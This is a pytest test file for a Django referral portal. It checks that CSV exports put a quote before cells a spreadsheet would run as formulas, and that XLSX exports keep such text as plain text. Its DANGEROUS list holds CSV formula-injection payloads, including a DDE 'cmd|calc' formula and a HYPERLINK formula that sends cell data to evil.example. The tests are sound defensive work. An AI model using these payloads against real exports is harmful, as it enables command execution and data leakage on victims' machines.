"""CSV formula injection: a text cell that a spreadsheet would run as a formula leaves the portal
with a single quote in front of it (OWASP's advice), in every CSV, whichever path wrote it.

The referral CSV is written by PostgreSQL's COPY on PostgreSQL and by Python's csv writer
elsewhere: run this file on both (DATABASE_URL); on PostgreSQL the two paths are compared byte
for byte over the same tricky names. XLSX stores text as text: no quote is added there, and no
text becomes a formula.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from agencies.models import User
from agencies.roles import Role
from cases import exports
from cases.models import Referral
from tests.cases.referral_helpers import send
from tests.conftest import client_for
from tests.factories import AgencyFactory, UserFactory
from toolkit.spreadsheet_safety import spreadsheet_safe, spreadsheet_safe_row

pytestmark = pytest.mark.django_db

on_postgresql = pytest.mark.skipif(connection.vendor != "postgresql", reason="COPY needs PostgreSQL")

# Each starts with a character some spreadsheet reads as the start of a formula.
DANGEROUS = [
    "=1+2*cmd|calc!A1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1 (503) 555-0100",
    "-5 mg",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\r\n=1+2",
    "\uff1d1+2",  # FULLWIDTH EQUALS SIGN
    "\uff0b1",  # FULLWIDTH PLUS SIGN
    "\uff0d1",  # FULLWIDTH HYPHEN-MINUS
    "\uff20SUM(A1)",  # FULLWIDTH COMMERCIAL AT
    "=a,b",  # a comma too: quoted by the CSV writer as well
]
HARMLESS = ["Hope House", "1+2", " =1+2", "'=1+2", "Café = good", "", "\u2212minus sign", "\u00a0=x"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_it_puts_a_quote_before_text_a_spreadsheet_would_run(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_it_leaves_other_text_alone(text):
    assert spreadsheet_safe(text) == text


def test_it_leaves_numbers_and_other_values_as_they_are():
    row = [-5, -2.5, Decimal("-1.5"), True, None, "-5 mg", "ok"]
    assert spreadsheet_safe_row(row) == [-5, -2.5, Decimal("-1.5"), True, None, "'-5 mg", "ok"]


def officer_of(name: str) -> User:
    return UserFactory(agency=AgencyFactory(name=name), role=Role.REFERRAL_OFFICER)


def with_county(referral: Referral, county: str) -> None:
    # Past the de-identification guard, which refuses some of these as a form's input: text reaches the
    # table by other ways too (imports, older rows), and the export must not trust any of them.
    Referral.objects.filter(pk=referral.pk).update(county=county)


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


@pytest.mark.parametrize("name", DANGEROUS)
def test_it_neutralizes_agency_names_in_the_referral_csv(officer, name):
    tricky = officer_of(name)
    send(officer, tricky.agency)
    with_county(send(tricky, officer.agency), name)
    response = client_for(officer).get(reverse("cases:referral_export_csv"))
    assert response.status_code == 200
    rows = cells(b"".join(response.streaming_content))
    assert [(row[3], row[4]) for row in rows[1:]] == [
        (officer.agency.name, "'" + name),
        ("'" + name, officer.agency.name),
    ]
    assert rows[2][11] == "'" + name  # the county, typed by a person


def test_it_writes_the_same_bytes_by_copy_and_by_python(officer):
    """On PostgreSQL, COPY (what the portal serves) and Python's writer over the same rows agree byte for
    byte; elsewhere the served bytes are Python's, and the check still holds."""
    names = [name for name in [*DANGEROUS, *HARMLESS] if name]
    for name in names:
        tricky = officer_of(name)
        with_county(send(officer, tricky.agency), name)
        send(tricky, officer.agency)
    served = b"".join(exports.csv_lines(user=officer))
    python = b"".join(text.encode() for text in exports.csv_encode(exports.export_rows(user=officer)))
    assert served == python
    rows = cells(served)[1:]
    assert [row[4] for row in rows[::2]] == [spreadsheet_safe(name) for name in names]
    assert [row[11] for row in rows[::2]] == [spreadsheet_safe(name) for name in names]


@on_postgresql
def test_it_makes_copy_write_the_quote_itself(officer):
    tricky = officer_of("=1+2*cmd|calc!A1")
    with_county(send(officer, tricky.agency), "\uff0d5 mg")
    referrals = Referral.objects.for_user(officer)
    data = b"".join(exports.copy_csv(referrals, agency_id=officer.agency_id))
    row = cells(data)[1]
    assert (row[4], row[11]) == ("'=1+2*cmd|calc!A1", "'\uff0d5 mg")


def test_it_keeps_formula_looking_text_as_text_in_the_referral_xlsx(officer):
    name = "=1+2*cmd|calc!A1"
    with_county(send(officer, officer_of(name).agency), "@SUM(A1)")
    book_file = exports.xlsx_file(user=officer)
    sheet_xml = zipfile.ZipFile(book_file).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml
    book_file.seek(0)
    sheet = load_workbook(book_file)[exports.SHEET_NAME]
    assert (sheet["E2"].value, sheet["E2"].data_type) == (name, "s")  # no quote: XLSX keeps text as text
    assert (sheet["L2"].value, sheet["L2"].data_type) == ("@SUM(A1)", "s")
